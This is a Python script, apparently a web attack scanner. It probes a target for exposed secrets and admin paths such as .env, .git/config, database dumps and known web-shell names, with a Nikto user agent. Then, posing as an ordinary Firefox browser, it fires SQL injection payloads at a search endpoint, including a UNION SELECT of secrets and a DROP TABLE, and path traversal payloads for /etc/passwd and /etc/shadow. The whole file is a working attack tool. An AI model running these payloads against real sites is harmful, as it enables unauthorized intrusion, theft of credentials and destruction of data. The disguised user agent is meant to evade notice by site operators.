"""web-scan.py ADDRESS: a scanner of web sites: asks for well-known paths under its own name,
then, as an ordinary browser, tries SQL injection and path traversal on the search."""
import http.client
import sys
import time
from urllib.parse import quote

PATHS = [f"/{name}" for name in """
    admin/ administrator/ wp-login.php wp-admin/ wp-config.php.bak xmlrpc.php phpmyadmin/ pma/ .git/config .env .svn/entries
    backup.zip backup.sql db.sql dump.sql www.zip config.php.bak web.config server-status server-info info.php phpinfo.php
    test.php shell.php cmd.php upload.php console/ manager/html jmx-console/ actuator/env actuator/health solr/ jenkins/
    cgi-bin/test.cgi cgi-bin/status robots.txt sitemap.xml crossdomain.xml .htaccess .htpasswd .DS_Store old/ new/ tmp/ logs/
    api/swagger.json api/v1/users graphql owa/ autodiscover/autodiscover.xml vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    HNAP1 boaform/admin/formLogin setup.cgi login.asp default.aspx trace.axd elmah.axd druid/index.html nacos/ geoserver/web/
""".split()]
INJECTIONS = ["'", "' OR 1=1 --", "' or '1'='1", "x' UNION SELECT 1 --", "x' UNION ALL SELECT name, secret FROM account --",
              "x%' union/**/select sqlite_version(), 2 -- ", "'; DROP TABLE document --", "x' AND (SELECT count(*) FROM sqlite_master) > 0 --"]
TRAVERSALS = ["../../../../etc/passwd", "../../../../etc/shadow.bak", "..%2f..%2f..%2f..%2fetc%2fpasswd", "/etc/passwd", "....//....//etc/passwd"]


def ask(connection: http.client.HTTPConnection, path: str, agent: str) -> None:
    connection.request("GET", path, headers={"Host": "web2.tinh.example", "User-Agent": agent, "Accept": "*/*"})
    connection.getresponse().read()


def main(address: str) -> None:
    connection = http.client.HTTPConnection(address, 80, timeout=10)
    for number, path in enumerate(PATHS):
        ask(connection, path, f"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{number:06d})")
        time.sleep(0.05)
    connection.close()
    browser = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
    for words in INJECTIONS:
        connection = http.client.HTTPConnection(address, 80, timeout=10)
        ask(connection, f"/app/search?q={quote(words)}", browser)
        # Some tools write spaces as plus signs and leave the rest as it is.
        ask(connection, "/app/search?q=" + words.replace(" ", "+").replace("%", "%25").replace(";", "%3b"), browser)
        connection.close()
        time.sleep(0.3)
    for name in TRAVERSALS:
        connection = http.client.HTTPConnection(address, 80, timeout=10)
        ask(connection, f"/app/search?q={name}", browser)
        ask(connection, f"/app/view?name={name}", browser)
        connection.close()
        time.sleep(0.3)


main(sys.argv[1])
